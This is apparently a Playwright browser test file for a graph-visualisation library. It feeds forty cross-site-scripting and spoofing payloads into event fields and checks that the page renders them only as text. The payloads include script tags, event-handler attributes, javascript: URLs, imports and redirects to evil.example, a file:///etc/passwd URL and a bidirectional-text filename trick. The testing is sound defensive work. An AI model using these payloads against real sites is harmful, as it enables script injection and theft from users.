"""Forty hostile texts as names, sentences, titles, addresses: no script runs, nothing is asked."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from graphkit.graph import ActorGraph, build_graph
from graphkit.types import Event

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.browser

OpenPage = Callable[..., "Page"]

HARM = "window.harmed=1"
HOSTILE = [
    f"<script>{HARM}</script>",
    f"</script><script>{HARM}</script>",
    f"<SCRIPT>{HARM}</SCRIPT >",
    f"<scr<script>ipt>{HARM}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    f"<img src=x onerror={HARM}>",
    f"<img src=https://evil.example/x.png onload={HARM}>",
    f"<svg onload={HARM}>",
    f"<svg><script>{HARM}</script></svg>",
    f"<svg><animate onbegin={HARM} attributeName=x dur=1s>",
    f"<body onload={HARM}>",
    f"<iframe src=javascript:{HARM}></iframe>",
    f"<iframe srcdoc='<script>parent.{HARM}</script>'></iframe>",
    f"<details open ontoggle={HARM}>",
    f"<input autofocus onfocus={HARM}>",
    f"<video><source onerror={HARM}></video>",
    f"<math><mtext><style><img src=x onerror={HARM}></style></mtext></math>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<object data=https://evil.example/x></object>",
    f"<form action=javascript:{HARM}><button autofocus>go</button></form>",
    f"<a href=javascript:{HARM} id=x>x</a>",
    f"javascript:{HARM}",
    f" JaVaScRiPt:{HARM}//https://good.example",
    f"java\tscript:{HARM}",
    f"data:text/html,<script>{HARM}</script>",
    "file://localhost/etc/passwd",
    "https://user:password@evil.example:8080/?<script>",
    f'" onmouseover="{HARM}',
    f"' onfocus='{HARM}' autofocus='",
    f"`${{{HARM}}}`",
    "<!-- <script>",
    "]]><!--",
    "{{data}}{{script}}\\u003cscript>",
    "\u202e\u2066evil\u2069\u202c gnp.exe",
    "\u2028\u2029\x00\x1b[31m\ufeff\ufffe",
    "\ud800 lone \udfff __proto__ constructor toString",
]


@pytest.fixture(scope="module")
def forty(sample: list[Event]) -> ActorGraph:
    """Forty pairs of actors, each event with one hostile text in every field."""
    first = sample[0]
    assert first.target is not None
    events = []
    for number, text in enumerate(HOSTILE):
        sentence = f"{text} did it to {text}."
        source = replace(
            first.source, id=f"person:{text}", name=text, aliases=(f"alias {text}",), country=text
        )
        target = replace(first.target, id=f"person:other {text}", name=f"other {text}")
        events.append(
            replace(
                first,
                id=f"{number:016x}",
                doc_id=f"{number} {text}",
                relation=text,
                source=replace(source, start=100, end=100 + len(text)),
                target=replace(target, start=100, end=100 + len(text)),
                sentence=sentence,
                sentence_end=100 + len(sentence),
                label=text,
                title=text,
                url=text,
                date="2018-07-20" if number % 2 else text,
                rule=text,
            )
        )
    return build_graph(events)


def test_there_are_forty() -> None:
    assert len(set(HOSTILE)) == 40


def test_forty_hostile_texts_stay_text(open_page: OpenPage, forty: ActorGraph) -> None:
    page = open_page(forty)
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    count = "document.querySelectorAll('script, style, meta, link, base, iframe').length"
    elements = page.evaluate(count)
    for relation in page.evaluate("graphkit.data.relations"):
        page.evaluate("id => graphkit.select({edge: id})", relation["id"])
        links = page.locator("#details a").evaluate_all(
            "all => all.map((a) => [a.protocol, a.rel])"
        )
        assert all(link == ["https:", "noopener noreferrer"] for link in links)
        page.evaluate(
            "ends => graphkit.select({path: ends})", [relation["source"], relation["target"]]
        )
        page.evaluate("id => graphkit.select({node: id})", relation["source"])
        name = page.evaluate("document.querySelector('#details h2').textContent")
        assert (
            page.evaluate(
                "id => graphkit.data.actors.find(a => a.id === id).name", relation["source"]
            )
            == name
        )
    for facet in ("relation", "class", "country", "document"):
        page.click("#tab-legend")
        page.click(f'[data-filter="{facet}"] summary')
    for state in ("view=table", "view=camps", "level=states", "relation=%3Cscript%3E"):
        page.evaluate("text => graphkit.follow(text)", state)
    page.locator("#search").fill("<")
    page.wait_for_timeout(200)
    assert page.evaluate("window.harmed") is None
    assert (
        page.evaluate("document.querySelectorAll('script, style, meta, iframe').length") == elements
    )
    assert page.url.startswith("file://")


def test_bidi_controls_do_not_leave_their_field(open_page: OpenPage, forty: ActorGraph) -> None:
    page = open_page(forty)
    trick = next(a["id"] for a in page.evaluate("graphkit.data.actors") if "gnp.exe" in a["name"])
    page.evaluate("id => graphkit.select({node: id})", trick)
    for selector in ("#details h2", "#details .row span[dir]"):
        assert page.locator(selector).first.get_attribute("dir") == "auto"
        isolation = "node => getComputedStyle(node).unicodeBidi"
        assert page.locator(selector).first.evaluate(isolation) in {"isolate", "plaintext"}
